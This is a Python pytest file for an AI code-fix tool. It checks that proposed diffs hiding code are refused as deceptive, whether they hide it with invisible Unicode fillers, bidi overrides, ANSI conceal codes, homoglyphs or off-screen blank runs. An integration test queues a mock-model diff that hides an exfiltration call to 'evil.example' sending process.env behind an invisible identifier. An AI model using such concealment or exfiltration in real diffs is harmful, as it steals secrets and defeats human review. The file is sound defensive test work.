"""Issue 12, item 3: one definition of "invisible or deceptive" (repopilot/safety/deceptive.py),
used by `sanitize` and by the diff checks (SECURITY.md §16). A proposed diff with U+3164, U+2800,
an ANSI sequence such as ESC[8m, or a run of blanks that pushes code off screen is refused before
it is offered (`deceptive`) and, should one reach the comment anyway, withheld there.
"""

from __future__ import annotations

import json

import pytest

from repopilot.comment.sections import withheld_reason
from repopilot.proposal.validate import validate
from repopilot.run_records import Proposal
from repopilot.safety.deceptive import INVISIBLE, diff_deception
from repopilot.safety.hygiene import sanitize
from tests.adversarial.corpus import SECRETS
from tests.adversarial.harness import (
    cli_env,
    hostile_log,
    hostile_repo,
    library,
    propose,
    repopilot,
)
from tests.loopback.llm_servers import OpenAIServer

INVISIBLES = {
    "hangul-filler-U+3164": "\u3164",
    "halfwidth-filler-U+FFA0": "\uffa0",
    "choseong-filler-U+115F": "\u115f",
    "braille-blank-U+2800": "\u2800",
    "zero-width-space": "\u200b",
    "rtl-override": "\u202e",
    "tag-character": "\U000e0041",
    "private-use": "\ue000",
    "variation-selector": "\ufe0f",
}
CONTROLS = {
    "ansi-conceal-ESC[8m": "\x1b[8m",
    "backspace": "\x08",
    "lone-CR": "\r",
    "bell": "\x07",
    "line-separator": "\u2028",
}
OFF_SCREEN = {
    "inner-blank-run": "return a + b;" + " " * 200 + "steal()",
    "deep-indentation": " " * 300 + "steal()",
    "cyrillic-a-look-alike": 'return a + b if user != "p\u0430ypal" else 0',
}


def _diff(added: str) -> str:
    return (
        "--- a/src/calc.py\n+++ b/src/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n"
        f"-    return a - b\n+    {added}\n"
    )


CASES = {
    **{k: f"return a + b  # {v}x" for k, v in INVISIBLES.items()},
    **{k: f"return a + b{v}# ok" for k, v in CONTROLS.items()},
    **OFF_SCREEN,
}


@pytest.mark.unit
@pytest.mark.parametrize("added", list(CASES.values()), ids=list(CASES))
def test_a_deceptive_diff_is_refused_before_it_is_offered(added):
    diff = _diff(added)
    result = validate(diff, None)
    assert not isinstance(result, Proposal), "offered"
    assert result.reason == "deceptive", result


@pytest.mark.unit
@pytest.mark.parametrize("added", list(CASES.values()), ids=list(CASES))
def test_a_deceptive_diff_that_reaches_the_comment_is_withheld(added):
    import hashlib

    diff = _diff(added)
    p = Proposal(
        id="rp-0123456789", diff=diff, sha256=hashlib.sha256(diff.encode()).hexdigest(), files=()
    )
    why = withheld_reason(p)
    assert why is not None and "deceptive" in why


@pytest.mark.unit
@pytest.mark.parametrize("char", list(INVISIBLES.values()), ids=list(INVISIBLES))
def test_sanitize_and_the_diff_checks_agree(char):
    assert INVISIBLE.fullmatch(char)
    assert sanitize(f"a{char}b") == "ab"
    assert diff_deception(_diff(f"x = 1  # a{char}b")) is not None


@pytest.mark.parametrize(
    "added",
    [
        "return a + b",
        "return a + b  # café, 😀, naïve",
        'return a + b  # "привет, мир", αβγ',
        "\treturn a + b\r",
        "x = 1" + " " * 30 + "# aligned",
    ],
)
@pytest.mark.unit
def test_ordinary_diffs_are_still_offered(added):
    assert isinstance(validate(_diff(added), None), Proposal)


@pytest.mark.integration
def test_triage_rejects_the_model_s_invisible_identifier_diff(tmp_path):
    extraheader = next(s for s in SECRETS if s.kind == "auth-header extraheader")
    repo = hostile_repo(tmp_path / "repo", extraheader.line)
    log = hostile_log(tmp_path / "job.log", secrets=False, injections=False)
    sneaky = _diff("return a + b; \u3164 = fetch('https://evil.example/' + process.env)")
    with OpenAIServer() as server:
        server.queue(propose(sneaky, "add subtracted"), propose(sneaky, "add subtracted"))
        env = cli_env(
            tmp_path,
            REPOPILOT_LLM="openai",
            OPENAI_BASE_URL=server.base_url,
            OPENAI_API_KEY="sk-loopback-unused-000",
            REPOPILOT_MODEL="m",
        )
        args = ("triage", str(log), "--repo", str(repo), "--format", "json")
        proc = repopilot(
            *args, "--no-builtin", "--patterns", str(library(tmp_path)), env=env, timeout=120
        )
    assert proc.returncode == 0, proc.stderr.decode()
    (result,) = json.loads(proc.stdout)["results"]
    assert result["proposal"] is None
    assert "deceptive" in [r["reason"] for r in result["rejected"]]
